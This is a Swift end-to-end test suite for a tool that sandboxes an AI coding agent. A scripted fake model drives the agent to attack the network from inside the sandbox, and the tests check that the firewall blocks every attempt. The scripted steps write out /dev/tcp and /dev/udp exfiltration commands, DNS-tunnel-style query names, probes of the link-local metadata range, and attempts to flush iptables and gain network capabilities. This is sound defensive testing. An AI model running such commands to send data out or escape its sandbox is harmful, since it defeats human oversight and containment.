import Foundation
import PatinaTestSupport
import Testing

/// The egress firewall end to end: the real Claude Code agent, driven by the fake
/// model, attacks the network from inside the real sandbox. Judged by what really
/// happened: test servers on this machine record every connection and datagram
/// they receive, and the fake model records each command's real output.
///
/// Every server listens on this machine only: the docker bridge gateway, or
/// link-local addresses the test adds to docker0 (and removes again).
@Suite(.serialized, .requiresDocker, .timeLimit(.minutes(10)))
struct FirewallEndToEndTests {
    /// Link-local addresses the test adds to docker0: one closed like any link-local
    /// address, one allow-listed on every port (to prove SSH stays closed even there).
    static let linkLocalBlocked = "169.254.77.1"
    static let linkLocalAllowed = "169.254.77.2"

    @Test func agentAttacksTheNetworkAndOnlyTheAllowListGetsThrough() throws {
        let gateway = FakeModel.bridgeGateway()
        let addresses = try BridgeAddresses([Self.linkLocalBlocked, Self.linkLocalAllowed])
        defer { addresses.remove() }

        // Nothing may ever arrive here.
        let blocked = try RecordingServer(
            tcp: ["\(gateway):0", "\(Self.linkLocalBlocked):0", "\(Self.linkLocalAllowed):22"],
            udp: ["\(gateway):0", "\(Self.linkLocalBlocked):0"])
        defer { blocked.stop() }
        // A DNS server elsewhere, on port 53 when it is free.
        let dns = try RecordingServer.dnsServer(on: gateway)
        defer { dns.stop() }
        // Allow-listed: the gateway on one port, and the second link-local address on any port.
        let allowed = try RecordingServer(tcp: ["\(gateway):0", "\(Self.linkLocalAllowed):0"])
        defer { allowed.stop() }

        let blockedTCP = blocked.tcpPorts[0], linkLocalTCP = blocked.tcpPorts[1]
        let blockedUDP = blocked.udpPorts[0], linkLocalUDP = blocked.udpPorts[1]
        let dnsPort = dns.udpPorts[0]
        let allowedPort = allowed.tcpPorts[0], allowedAnyPort = allowed.tcpPorts[1]
        let query = dnsQuery("exfil-c2VjcmV0.patina-test.invalid")
        let madeUpName = "exfil-\(UUID().uuidString.prefix(8).lowercased()).patina-test.invalid"

        let model = try FakeModel(script: [
            // 1. Another port of the host that serves the model: exactly the model's port is allowed.
            .bash(tcpAttempt(gateway, blockedTCP, send: "patina-exfil-tcp", marker: "BLOCKED-TCP")
                + "; " + udpAttempt(gateway, blockedUDP, send: "printf 'patina-exfil-udp\\n'", marker: "BLOCKED-UDP")),
            // 2. A DNS query straight to another server, over UDP and TCP.
            .bash(udpAttempt(gateway, dnsPort, send: "printf '\(printfEscaped(query))'", marker: "FOREIGN-DNS-UDP")
                + "; " + tcpAttempt(gateway, dns.tcpPorts[0], send: "printf '\(printfEscaped(lengthPrefixed(query)))'",
                                    marker: "FOREIGN-DNS-TCP")),
            // 3. Names that are not allowed, through the sandbox's resolver.
            .bash("getent hosts example.org; echo \"RESOLVE-EXAMPLE:$?\"; getent ahosts \(madeUpName); echo \"RESOLVE-MADEUP:$?\"; "
                + "grep '^nameserver' /etc/resolv.conf; echo RESOLV-CONF-END"),
            // 4. Link-local (the cloud metadata range), TCP and UDP.
            .bash(tcpAttempt(Self.linkLocalBlocked, linkLocalTCP, send: "patina-exfil-link-local", marker: "LINK-LOCAL-TCP")
                + "; " + udpAttempt(Self.linkLocalBlocked, linkLocalUDP, send: "printf 'patina-exfil-link-local\\n'", marker: "LINK-LOCAL-UDP")),
            // 5. Turn the firewall off with whatever is there, then try the blocked target again.
            .bash("iptables -F; echo \"IPTABLES-F:$?\"; iptables -P OUTPUT ACCEPT; echo \"IPTABLES-P:$?\"; "
                + "ip6tables -F; echo \"IP6TABLES-F:$?\"; "
                + "unshare --net --map-root-user true; echo \"UNSHARE:$?\"; "
                + "setpriv --inh-caps=+net_admin --ambient-caps=+net_admin true; echo \"SETPRIV:$?\"; "
                + "perl -MSocket -e 'socket(my $s, AF_INET, SOCK_RAW, 255) or die \"raw socket: $!\\n\"'; echo \"RAW-SOCKET:$?\"; "
                + "grep '^CapEff' /proc/self/status; "
                + tcpAttempt(gateway, blockedTCP, send: "patina-exfil-again", marker: "BLOCKED-AGAIN")),
            // 6. SSH is closed even to an address allowed on every port; its other ports answer.
            .bash(tcpAttempt(Self.linkLocalAllowed, 22, send: "SSH-2.0-patina-exfil", marker: "SSH")
                + "; " + tcpAttempt(Self.linkLocalAllowed, allowedAnyPort, send: "patina-allowed-any-port", marker: "ALLOWED-ANY-PORT", readReply: true)),
            // 7. The allow-listed host:port is reached.
            .bash(tcpAttempt(gateway, allowedPort, send: "patina-allowed-hello", marker: "ALLOWED", readReply: true)
                + " && echo done > firewall-e2e.txt && git add firewall-e2e.txt && git commit -q -m 'after the attacks' && echo COMMITTED"),
            .text("Tried the network; only the allowed server answered."),
        ])
        let repo = try TemporaryRepository()
        let main = try repo.git("rev-parse", "main")
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let run = try FinishedRun(patina.yolo("probe the network", [
            "--allow", "\(gateway):\(allowedPort)", "--allow", Self.linkLocalAllowed, "--timeout", "5m",
        ]))

        // The run itself went normally and its branch was collected.
        #expect(run.output.status == 0, "stderr: \(run.output.stderr)")
        #expect(run.status == "succeeded", "\(run.record)")
        #expect(run.record["firewall"] as? Bool == true)
        #expect(try repo.git("log", "-1", "--format=%s", run.branch) == "after the attacks")
        #expect(try repo.git("show", "\(run.branch):firewall-e2e.txt") == "done")
        try expectUserRepositoryUntouched(repo, mainBefore: main, run: run)

        // The self-test passed before the agent started; IPv6 is denied by default too.
        let report = run.file("firewall.txt") ?? ""
        #expect(report.contains("self-test: passed"), "firewall.txt: \(report)")
        #expect(report.contains("reach-tcp \(gateway):\(allowedPort)"), "the allowed endpoint was not self-tested")
        let v6 = report.components(separatedBy: "== ip6tables -S").last?.components(separatedBy: "== ipsets").first ?? ""
        #expect(v6.contains("-P OUTPUT DROP"), "ip6tables: \(v6)")
        #expect(v6.contains("closed: not allow-listed"), "ip6tables: \(v6)")
        let shown = try patina.run(["show", run.id]).stdout
        #expect(shown.contains("self-test: passed"), "patina show: \(shown)")

        // What the agent's commands really printed.
        let results = everyToolResult(model).joined(separator: "\n")
        let outcome = { (marker: String) in Self.status(marker, in: results) }
        // Every blocked attempt failed at once (exit 124 would be a hang: dropped, not rejected).
        for marker in ["BLOCKED-TCP", "BLOCKED-UDP", "FOREIGN-DNS-UDP", "FOREIGN-DNS-TCP",
                       "LINK-LOCAL-TCP", "LINK-LOCAL-UDP", "BLOCKED-AGAIN", "SSH"] {
            let status = outcome(marker)
            #expect(status != nil && status != 0 && status != 124, "\(marker) exited \(status.map(String.init) ?? "?"): \(results)")
        }
        #expect(outcome("RESOLVE-EXAMPLE") == 2, "example.org resolved: \(results)")
        #expect(outcome("RESOLVE-MADEUP") == 2, "\(madeUpName) resolved: \(results)")
        #expect(results.contains("nameserver 127.0.0.1\nRESOLV-CONF-END"), "the agent does not use the sandbox resolver: \(results)")
        // The firewall cannot be changed from inside: no tools, no capabilities, no way to gain them.
        #expect(outcome("IPTABLES-F") == 127 && outcome("IPTABLES-P") == 127 && outcome("IP6TABLES-F") == 127, "\(results)")
        #expect(outcome("UNSHARE") != 0 && outcome("UNSHARE") != nil, "\(results)")
        #expect(outcome("SETPRIV") != 0 && outcome("SETPRIV") != nil, "\(results)")
        #expect(outcome("RAW-SOCKET") != 0 && results.contains("raw socket: Operation not permitted"), "\(results)")
        #expect(results.contains("CapEff:\t0000000000000000"), "\(results)")
        // The allowed endpoints answered.
        #expect(outcome("ALLOWED") == 0 && outcome("ALLOWED-ANY-PORT") == 0, "\(results)")
        #expect(results.contains("patina-recorder-ok"), "\(results)")
        #expect(results.contains("COMMITTED"), "\(results)")

        // What the servers really received: nothing at any blocked one...
        #expect(blocked.received().isEmpty, "reached a blocked server: \(blocked.received())")
        #expect(dns.received().isEmpty, "reached the foreign DNS server: \(dns.received())")
        // ...and the agent's own data at the allowed ones.
        let arrived = allowed.received()
        #expect(arrived.contains { $0.port == allowedPort && $0.text.contains("patina-allowed-hello") }, "\(arrived)")
        #expect(arrived.contains { $0.port == allowedAnyPort && $0.text.contains("patina-allowed-any-port") }, "\(arrived)")

        // The blocked servers were listening all along: from the host they are reached.
        #expect(blocked.answersFromTheHost(), "a blocked server was not listening: \(blocked.received())")
        #expect(dns.answersFromTheHost(), "the DNS server was not listening: \(dns.received())")

        // The sandbox's resolver answered the names itself and forwarded nothing.
        let resolver = run.file("resolver.log") ?? ""
        #expect(resolver.contains("config example.org is NXDOMAIN"), "resolver.log: \(resolver)")
        #expect(resolver.contains("config \(madeUpName) is NXDOMAIN"), "resolver.log: \(resolver)")
        #expect(!resolver.contains("forwarded"), "resolver.log: \(resolver)")
    }

    @Test func noFirewallWarnsIsRecordedAndLetsTheAgentReachTheHost() throws {
        let gateway = FakeModel.bridgeGateway()
        let server = try RecordingServer(tcp: ["\(gateway):0"])
        defer { server.stop() }
        let port = server.tcpPorts[0]
        let model = try FakeModel(script: [
            .bash(tcpAttempt(gateway, port, send: "patina-no-firewall", marker: "REACHED", readReply: true)),
            .text("Reached the host."),
        ])
        let repo = try TemporaryRepository()
        let main = try repo.git("rev-parse", "main")
        let run = try FinishedRun(PatinaRunner(repository: repo, baseURL: model.baseURL).yolo("reach the host", ["--no-firewall"]))

        #expect(run.output.status == 0, "stderr: \(run.output.stderr)")
        #expect(run.status == "succeeded")
        #expect(run.output.stderr.contains("--no-firewall"), "no warning: \(run.output.stderr)")
        #expect(run.record["firewall"] as? Bool == false)
        let saved = try JSONSerialization.jsonObject(with: Data((run.file("run.json") ?? "").utf8)) as? [String: Any]
        #expect(saved?["firewall"] as? Bool == false, "run.json: \(run.file("run.json") ?? "missing")")
        #expect(run.file("firewall.txt") == nil)

        // The same host:port the firewalled run could not reach.
        let results = everyToolResult(model).joined(separator: "\n")
        #expect(Self.status("REACHED", in: results) == 0, "\(results)")
        #expect(results.contains("patina-recorder-ok"), "\(results)")
        #expect(server.received().contains { $0.text.contains("patina-no-firewall") }, "\(server.received())")
        try expectUserRepositoryUntouched(repo, mainBefore: main, run: run)
    }

    @Test func failingSelfTestStopsTheRunBeforeTheAgentStarts() throws {
        let gateway = FakeModel.bridgeGateway()
        // A port where nothing listens: the server starts, reports its port, and stops.
        let gone = try RecordingServer(tcp: ["\(gateway):0"])
        let deadPort = gone.tcpPorts[0]
        gone.stop()
        let model = try FakeModel(script: [
            .bash("echo should-never-run > never.txt"),
            .text("unreachable"),
        ])
        let repo = try TemporaryRepository()
        let main = try repo.git("rev-parse", "main")
        let patina = PatinaRunner(repository: repo, baseURL: model.baseURL)
        let run = try FinishedRun(patina.yolo("never starts", ["--allow", "\(gateway):\(deadPort)"]))

        #expect(run.output.status != 0)
        #expect(run.status == "error", "\(run.record)")
        let reason = run.record["reason"] as? String ?? ""
        #expect(reason.contains("before the agent started") && reason.contains("\(gateway):\(deadPort)"), "reason: \(reason)")
        #expect(run.output.stderr.contains("\(gateway):\(deadPort)"), "stderr: \(run.output.stderr)")
        // Claude Code never started: the model got no request at all.
        #expect(model.requests().isEmpty, "the model was called: \(model.requests())")
        // The report says why; nothing is left behind.
        let report = run.file("firewall.txt") ?? ""
        #expect(report.contains("self-test: FAILED") && report.contains("FAIL reach-tcp \(gateway):\(deadPort)"), "firewall.txt: \(report)")
        let shown = try patina.run(["show", run.id]).stdout
        #expect(shown.contains("self-test: FAILED") && shown.contains("FAIL reach-tcp \(gateway):\(deadPort)"), "patina show: \(shown)")
        #expect(try PatinaRunner.leftoverContainers(runID: run.id).isEmpty)
        #expect(try repo.git("branch", "--list", "patina/*").isEmpty)
        #expect(try repo.git("rev-parse", "main") == main)
        #expect(try repo.git("status", "--porcelain").isEmpty)
        #expect(!FileManager.default.fileExists(atPath: run.worktree.path))
    }

    /// The exit status on the line `MARKER:STATUS`, or nil when there is no such line.
    static func status(_ marker: String, in text: String) -> Int? {
        text.split(separator: "\n").lazy.compactMap { line -> Int? in
            line.hasPrefix("\(marker):") ? Int(line.dropFirst(marker.count + 1)) : nil
        }.first
    }
}

// MARK: - The agent's commands

/// The output of every command the agent ran, in order, from the whole history each
/// request carries. (`FakeModel.toolResults()` reads only the last message, and Claude
/// Code sometimes appends a "system" message after a tool result.)
private func everyToolResult(_ model: FakeModel) -> [String] {
    var seen: Set<String> = []
    var results: [String] = []
    for request in model.requests() where request["kind"] as? String == "main" {
        for case let result as [String: Any] in request["tool_results"] as? [Any] ?? [] {
            let id = result["tool_use_id"] as? String ?? UUID().uuidString
            if seen.insert(id).inserted { results.append(result["content"] as? String ?? "") }
        }
    }
    return results
}

/// Connects with bash's /dev/tcp under a deadline, sends a line, optionally reads the
/// reply; prints `MARKER:STATUS` (124: still waiting at the deadline).
private func tcpAttempt(_ host: String, _ port: Int, send: String, marker: String, readReply: Bool = false) -> String {
    let payload = send.hasPrefix("printf ") ? "\(send) >&3" : "echo \(send) >&3"
    let read = readReply ? " && head -1 <&3" : ""
    return "timeout 5 bash -c \"exec 3<>/dev/tcp/\(host)/\(port) && \(payload.replacingOccurrences(of: "\"", with: "\\\""))\(read)\"; echo \"\(marker):$?\""
}

/// Sends one datagram with bash's /dev/udp; prints `MARKER:STATUS`.
private func udpAttempt(_ host: String, _ port: Int, send: String, marker: String) -> String {
    "timeout 5 bash -c \"\(send) > /dev/udp/\(host)/\(port)\"; echo \"\(marker):$?\""
}

/// A DNS query for `name`, type A, recursion desired: what a resolver would receive.
private func dnsQuery(_ name: String) -> [UInt8] {
    var bytes: [UInt8] = [0x13, 0x37, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00]
    for label in name.split(separator: ".") {
        bytes.append(UInt8(label.utf8.count))
        bytes += Array(label.utf8)
    }
    return bytes + [0x00, 0x00, 0x01, 0x00, 0x01]
}

private func lengthPrefixed(_ bytes: [UInt8]) -> [UInt8] {
    [UInt8(bytes.count >> 8), UInt8(bytes.count & 0xFF)] + bytes
}

private func printfEscaped(_ bytes: [UInt8]) -> String {
    bytes.map { String(format: "\\x%02x", $0) }.joined()
}

// MARK: - Test servers and addresses

/// Tests/Fixtures/recorder.py: listens on the given addresses and records every TCP
/// connection and UDP datagram it receives.
final class RecordingServer: @unchecked Sendable {
    struct Received: CustomStringConvertible {
        let proto: String
        let host: String
        let port: Int
        let peer: String
        let text: String
        var description: String { "\(proto) \(host):\(port) from \(peer): \(text.debugDescription)" }
    }

    let tcpPorts: [Int]
    let udpPorts: [Int]
    private let process: Process
    private let directory: URL
    private let recordFile: URL

    init(tcp: [String] = [], udp: [String] = [], dnsRefuse: Bool = false) throws {
        directory = FileManager.default.temporaryDirectory.appendingPathComponent("recorder-\(UUID().uuidString.prefix(8))")
        try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
        recordFile = directory.appendingPathComponent("record.jsonl")
        let portFile = directory.appendingPathComponent("ports.json")
        let log = directory.appendingPathComponent("recorder.log")
        _ = FileManager.default.createFile(atPath: log.path, contents: nil)
        process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", TestEnvironment.fixtures.appendingPathComponent("recorder.py").path,
                             "--record", recordFile.path, "--port-file", portFile.path]
            + tcp.flatMap { ["--tcp", $0] } + udp.flatMap { ["--udp", $0] } + (dnsRefuse ? ["--dns-refuse"] : [])
        process.standardOutput = FileHandle.nullDevice
        process.standardError = try FileHandle(forWritingTo: log)
        try process.run()
        var ports: [String: Any]?
        let deadline = Date().addingTimeInterval(10)
        while ports == nil, process.isRunning, Date() < deadline {
            if let data = try? Data(contentsOf: portFile) {
                ports = try? JSONSerialization.jsonObject(with: data) as? [String: Any]
            } else {
                Thread.sleep(forTimeInterval: 0.02)
            }
        }
        guard let ports else {
            let why = (try? String(contentsOf: log, encoding: .utf8)) ?? ""
            if process.isRunning { kill(process.processIdentifier, SIGKILL) }
            process.waitUntilExit()
            try? FileManager.default.removeItem(at: directory)
            throw ProcessRunner.Failure(description: "recorder did not start on \(tcp + udp): \(why.suffix(400))")
        }
        tcpPorts = ports["tcp"] as? [Int] ?? []
        udpPorts = ports["udp"] as? [Int] ?? []
        tcpListeners = (ports["listeners"] as? [[String: Any]] ?? []).compactMap { listener in
            guard listener["proto"] as? String == "tcp", let host = listener["host"] as? String,
                  let port = listener["port"] as? Int else { return nil }
            return (host, port)
        }
    }

    private let tcpListeners: [(host: String, port: Int)]

    /// Connects from the host to every TCP listener and waits until each connection is
    /// recorded: proof that "nothing arrived" was not a dead server.
    func answersFromTheHost() -> Bool {
        let before = received().count
        for (host, port) in tcpListeners {
            _ = try? ProcessRunner.run(["timeout", "5", "bash", "-c", "exec 3<>/dev/tcp/\(host)/\(port) && echo patina-host-control >&3"])
        }
        let deadline = Date().addingTimeInterval(5)
        while received().count < before + tcpListeners.count, Date() < deadline { Thread.sleep(forTimeInterval: 0.05) }
        return received().count >= before + tcpListeners.count
    }

    /// A DNS server on `host`, UDP and TCP port 53 when that is free, else any port.
    static func dnsServer(on host: String) throws -> RecordingServer {
        if let server = try? RecordingServer(tcp: ["\(host):53"], udp: ["\(host):53"], dnsRefuse: true) { return server }
        return try RecordingServer(tcp: ["\(host):0"], udp: ["\(host):0"], dnsRefuse: true)
    }

    /// Everything received so far.
    func received() -> [Received] {
        guard let text = try? String(contentsOf: recordFile, encoding: .utf8) else { return [] }
        return text.split(separator: "\n").compactMap { line in
            guard let entry = (try? JSONSerialization.jsonObject(with: Data(line.utf8))) as? [String: Any] else { return nil }
            let local = entry["local"] as? [String: Any] ?? [:]
            let peer = entry["peer"] as? [String: Any] ?? [:]
            return Received(proto: entry["proto"] as? String ?? "", host: local["host"] as? String ?? "",
                            port: local["port"] as? Int ?? 0, peer: peer["host"] as? String ?? "",
                            text: entry["text"] as? String ?? "")
        }
    }

    /// SIGKILL: children of a test's worker thread inherit its blocked signal mask.
    func stop() {
        if process.isRunning {
            kill(process.processIdentifier, SIGKILL)
            process.waitUntilExit()
        }
    }

    deinit {
        stop()
        try? FileManager.default.removeItem(at: directory)
    }
}

/// Addresses added to docker0 for one test, so servers can listen on them; removed
/// again by `remove()`, also when the test fails.
final class BridgeAddresses: @unchecked Sendable {
    let addresses: [String]
    static let interface = "docker0"

    init(_ addresses: [String]) throws {
        self.addresses = addresses
        for address in addresses {
            precondition(address != "169.254.169.254", "never the cloud metadata address")
            // Left over from a killed earlier run: take it away first.
            _ = try? ProcessRunner.run(["ip", "addr", "del", "\(address)/32", "dev", Self.interface])
            do {
                try ProcessRunner.check(["ip", "addr", "add", "\(address)/32", "dev", Self.interface])
            } catch {
                remove()
                throw error
            }
        }
    }

    func remove() {
        for address in addresses {
            _ = try? ProcessRunner.run(["ip", "addr", "del", "\(address)/32", "dev", Self.interface])
        }
    }

    deinit { remove() }
}
